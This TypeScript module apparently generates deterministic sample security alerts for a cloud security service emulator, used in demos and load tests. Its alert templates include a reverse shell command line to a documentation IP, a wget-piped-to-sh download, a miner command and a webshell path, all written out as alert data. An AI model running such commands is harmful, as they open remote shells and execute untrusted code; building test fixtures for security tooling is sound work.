import { seededRandom } from '../random.js';
import { formatServiceTime } from './service-time.js';
import type { SuspEventLevel, SuspEventRecord } from './susp-event.js';

interface AlertTemplate {
  readonly type: string;
  readonly name: string;
  readonly display: string;
  readonly level: SuspEventLevel;
  readonly details: readonly (readonly [label: string, value: string])[];
}

/** An ATT&CK tactic: its ID and display name. */
type Tactic = readonly [id: string, display: string];

const INITIAL_ACCESS: Tactic = ['TA0001', 'Initial Access'];
const EXECUTION: Tactic = ['TA0002', 'Execution'];
const PERSISTENCE: Tactic = ['TA0003', 'Persistence'];
const CREDENTIAL_ACCESS: Tactic = ['TA0006', 'Credential Access'];
const DISCOVERY: Tactic = ['TA0007', 'Discovery'];
const COMMAND_AND_CONTROL: Tactic = ['TA0011', 'Command and Control'];
const IMPACT: Tactic = ['TA0040', 'Impact'];

/** The tactics of each alert name, and its attack stage as the service names it. */
const TACTICS: Readonly<Record<string, readonly [stage: string, ...tactics: Tactic[]]>> = {
  login_common_location: ['initial_access', INITIAL_ACCESS],
  login_brute_force_success: ['credential_access', CREDENTIAL_ACCESS, INITIAL_ACCESS],
  webshell_php: ['persistence', PERSISTENCE],
  malicious_process_miner: ['impact', EXECUTION, IMPACT],
  reverse_shell: ['command_and_control', EXECUTION, COMMAND_AND_CONTROL],
  suspicious_download: ['execution', EXECUTION],
  outbound_port_scan: ['discovery', DISCOVERY],
  new_privileged_account: ['persistence', PERSISTENCE],
  crontab_modified: ['authority_maintenance', PERSISTENCE],
};

/** Types whose events run a process or drop a file: defense rules, sandbox results. */
const PROCESS_TYPES: ReadonlySet<string> = new Set(['Webshell', 'Malicious process', 'Suspicious process']);

/** One in this many events is on a Kubernetes container; the others are on plain hosts. */
const CONTAINER_EVERY = 4;

const TEMPLATES: readonly [AlertTemplate, ...AlertTemplate[]] = [
  {
    type: 'Unusual Logon',
    name: 'login_common_location',
    display: 'Login with unusual location',
    level: 'remind',
    details: [
      ['Login source IP', '198.51.100.23'],
      ['Login user', 'root'],
    ],
  },
  {
    type: 'Unusual Logon',
    name: 'login_brute_force_success',
    display: 'Successful login after brute-force attack',
    level: 'serious',
    details: [
      ['Login source IP', '198.51.100.77'],
      ['Login user', 'admin'],
    ],
  },
  {
    type: 'Webshell',
    name: 'webshell_php',
    display: 'PHP webshell file',
    level: 'serious',
    details: [
      ['File path', '/var/www/html/upload/shell.php'],
      ['File MD5', '3f1d5e0b7c2a9d84e6b0c1f27a953e4d'],
    ],
  },
  {
    type: 'Malicious process',
    name: 'malicious_process_miner',
    display: 'Mining program',
    level: 'serious',
    details: [
      ['Process path', '/tmp/.x/kworkerds'],
      ['Command line', '/tmp/.x/kworkerds -o pool.example.net:3333 --background'],
      ['File MD5', 'a7c3e91f04b2d6587e0f1c9b3d2a6e85'],
    ],
  },
  {
    type: 'Suspicious process',
    name: 'reverse_shell',
    display: 'Reverse shell command',
    level: 'serious',
    details: [
      ['Command line', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'],
      ['Process path', '/usr/bin/bash'],
    ],
  },
  {
    type: 'Suspicious process',
    name: 'suspicious_download',
    display: 'Suspicious download command',
    level: 'suspicious',
    details: [
      ['Command line', 'wget http://198.51.100.41/x.sh -O- | sh'],
      ['Process path', '/usr/bin/wget'],
    ],
  },
  {
    type: 'Suspicious network connection',
    name: 'outbound_port_scan',
    display: 'Outbound port scan',
    level: 'suspicious',
    details: [['Target', '192.0.2.0/24']],
  },
  {
    type: 'Suspicious account',
    name: 'new_privileged_account',
    display: 'New account with root privileges',
    level: 'suspicious',
    details: [['Account', 'sysadm']],
  },
  {
    type: 'Sensitive file tampering',
    name: 'crontab_modified',
    display: 'Scheduled task modified',
    level: 'remind',
    details: [['File path', '/etc/crontab']],
  },
];

/**
 * Options of {@link sampleAlerts}.
 *
 * @example
 * ```ts
 * const options: SampleAlertsOptions = { fields: 'core' };
 * const alerts = sampleAlerts(1_000, 'load', options);
 * ```
 */
export interface SampleAlertsOptions {
  /**
   * `'all'`: every field the service documents for an event; `'core'`: the 28 the emulator reads or
   * earlier versions served (`Id`, `Level`, `EventStatus`, names and types, addresses, host, times,
   * `Details`, an empty `EventNotes` and `MarkList`, ...), the same values.
   * @defaultValue `'all'`
   */
  readonly fields?: 'all' | 'core';
}

const NEWEST = Date.UTC(2026, 0, 15, 8, 0, 0);
const FIRST_ID = 7_009_600;
/** The sample account's ID (`SourceAliUid`), 16 digits below 2^53, before its seeded part. */
const ACCOUNT_BASE = 1_960_000_000_000_000;
const NOTE_BASE = 100_000_000;

/**
 * Realistic alert events for demos and tests, the same for the same `count` and `seed`: mixed
 * levels (serious, suspicious, remind) and types (Unusual Logon, Webshell, Malicious process, ...),
 * addresses in documentation ranges (`203.0.113.x` public, `10.x.x.x` private), all pending, newest first.
 * Text times (`LastTime`, `OccurrenceTime`, `NoteTime`) are written at UTC+08:00, as the service does
 * (see `formatServiceTime`); the `...TimeStamp` fields are epoch milliseconds.
 * Each event has its own host (`Uuid`) and `Details` (login source IP and user, file path and MD5,
 * process path and command line, ...) from which the emulator offers whitelist fields.
 *
 * Every event carries every field `DescribeSuspEvents` documents for an event (57, and the 9 of the
 * items of its `Details`, `EventNotes` and `TacticItems`): one account's `SourceAliUid`, ATT&CK
 * `TacticItems` and `Stages`, an AI verdict (`SupportOperateCode`), empty handling results
 * (`OperateErrorCode`, `OperateMsg`, `OperateTime: 0`), a note on every other event (`EventNotes`), and
 * Kubernetes fields (`K8s*`, `Container*`, `clusterId`, `AppName`, `ImageUuid`) filled on one event in
 * four and empty on the others, as on plain hosts. These draw from a stream of their own, so that
 * `fields: 'core'` gives the same events with only their 28 core fields (about half the bytes), as
 * earlier versions did: for load tests that compare with figures taken then.
 *
 * @example
 * ```ts
 * const emulator = await startEmulator({ alerts: sampleAlerts(45, 'demo') });
 * const light = sampleAlerts(100_000, 'bench', { fields: 'core' }); // Id, Level, Details, ... only
 * ```
 */
export function sampleAlerts(
  count: number,
  seed: string | number = 'alerts',
  options: SampleAlertsOptions = {},
): SuspEventRecord[] {
  const core = options.fields === 'core';
  const random = seededRandom(seed);
  const pick = (size: number): number => Math.floor(random() * size);
  const more = seededRandom(`${seed}:fields`);
  const morePick = (size: number): number => Math.floor(more() * size);
  const moreHex = (length: number): string =>
    Array.from({ length }, () => morePick(16).toString(16)).join('');
  const account = ACCOUNT_BASE + morePick(1_000_000_000_000);
  const cluster = `c${moreHex(32)}`;
  let lastTime = NEWEST;
  return Array.from({ length: count }, (_, index) => {
    const template = TEMPLATES[pick(TEMPLATES.length)] ?? TEMPLATES[0];
    lastTime -= 60_000 + pick(3_600_000);
    const firstTime = lastTime - pick(86_400_000);
    const id = FIRST_ID + count - index;
    const host = pick(254) + 1;
    const hex = (length: number): string => Array.from({ length }, () => pick(16).toString(16)).join('');
    const [stage, ...tactics] = TACTICS[template.name] ?? ['execution', EXECUTION];
    const processing = PROCESS_TYPES.has(template.type);
    const container =
      index % CONTAINER_EVERY === CONTAINER_EVERY - 1
        ? containerOf(cluster, moreHex, morePick)
        : noContainer();
    const rest = {
      AppName: container.AppName,
      AutoBreaking: false,
      CanCancelFault: false,
      ContainHwMode: false,
      ContainerId: container.ContainerId,
      ContainerImageId: container.ContainerImageId,
      ContainerImageName: container.ContainerImageName,
      DataSource: 'aegis_suspicious_event',
      DetectSource: 'aegis',
      DisplaySandboxResult: processing,
      HasTraceInfo: template.level === 'serious',
      ImageUuid: container.ImageUuid,
      K8sClusterId: container.K8sClusterId,
      K8sClusterName: container.K8sClusterName,
      K8sNamespace: container.K8sNamespace,
      K8sNodeId: container.K8sNodeId,
      K8sNodeName: container.K8sNodeName,
      K8sPodName: container.K8sPodName,
      LargeModel: false,
      MaliciousRuleStatus: processing ? 'open' : 'close',
      MarkMisRules: '',
      OperateErrorCode: '',
      OperateMsg: '',
      OperateTime: 0,
      SourceAliUid: account,
      Stages: JSON.stringify([stage]),
      SupportOperateCode:
        template.level === 'serious' ? 'AI.real_attack' : 'AI.Insufficient_information_to_evaluate',
      TacticItems: tactics.map(([id, display]) => ({ TacticId: id, TacticDisplayName: display })),
      clusterId: container.K8sClusterId,
    };
    const noteTime = lastTime + 60_000 + morePick(3_600_000);
    const notes =
      index % 2 === 0
        ? [
            {
              Note: 'Seen by the on-call engineer: under review',
              NoteId: NOTE_BASE + id,
              NoteTime: formatServiceTime(noteTime),
            },
          ]
        : [];
    return {
      Id: id,
      Level: template.level,
      EventStatus: 1,
      AlarmEventName: template.name,
      AlarmEventNameDisplay: template.display,
      AlarmEventType: template.type,
      AlarmEventTypeDisplay: template.type,
      Name: `${template.type}-${template.display}`,
      EventSubType: template.name,
      AlarmUniqueInfo: hex(32),
      UniqueInfo: hex(32),
      SecurityEventIds: String(id),
      InternetIp: `203.0.113.${host}`,
      IntranetIp: `10.${pick(256)}.${pick(256)}.${host}`,
      Uuid: `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`,
      InstanceId: `i-emu${hex(16)}`,
      InstanceName: `web-${String(host).padStart(3, '0')}`,
      OccurrenceTime: formatServiceTime(firstTime),
      OccurrenceTimeStamp: firstTime,
      LastTime: formatServiceTime(lastTime),
      LastTimeStamp: lastTime,
      CanBeDealOnLine: true,
      Advanced: false,
      SaleVersion: '1',
      Desc: template.display,
      Details: template.details.map(([label, value]) => ({
        NameDisplay: label,
        Type: 'text',
        Value: value,
        ValueDisplay: value,
      })),
      EventNotes: core ? [] : notes,
      MarkList: [],
      ...(!core && rest),
    };
  });
}

/** The Kubernetes and container fields of an event: filled on a container, empty on a plain host. */
interface ContainerFields {
  readonly AppName: string;
  readonly ContainerId: string;
  readonly ContainerImageId: string;
  readonly ContainerImageName: string;
  readonly ImageUuid: string;
  readonly K8sClusterId: string;
  readonly K8sClusterName: string;
  readonly K8sNamespace: string;
  readonly K8sNodeId: string;
  readonly K8sNodeName: string;
  readonly K8sPodName: string;
}

const APPS = ['checkout', 'catalog', 'gateway', 'reports'] as const;

function containerOf(
  cluster: string,
  hex: (length: number) => string,
  pick: (size: number) => number,
): ContainerFields {
  const app = APPS[pick(APPS.length)] ?? 'checkout';
  const node = pick(8) + 1;
  return {
    AppName: app,
    ContainerId: hex(64),
    ContainerImageId: `sha256:${hex(64)}`,
    ContainerImageName: `registry.example.com/shop/${app}:1.${pick(20)}.${pick(10)}`,
    ImageUuid: hex(32),
    K8sClusterId: cluster,
    K8sClusterName: 'prod-shop',
    K8sNamespace: 'shop',
    K8sNodeId: `i-emu${hex(16)}`,
    K8sNodeName: `node-${String(node).padStart(2, '0')}`,
    K8sPodName: `${app}-${hex(10)}-${hex(5)}`,
  };
}

function noContainer(): ContainerFields {
  return {
    AppName: '',
    ContainerId: '',
    ContainerImageId: '',
    ContainerImageName: '',
    ImageUuid: '',
    K8sClusterId: '',
    K8sClusterName: '',
    K8sNamespace: '',
    K8sNodeId: '',
    K8sNodeName: '',
    K8sPodName: '',
  };
}
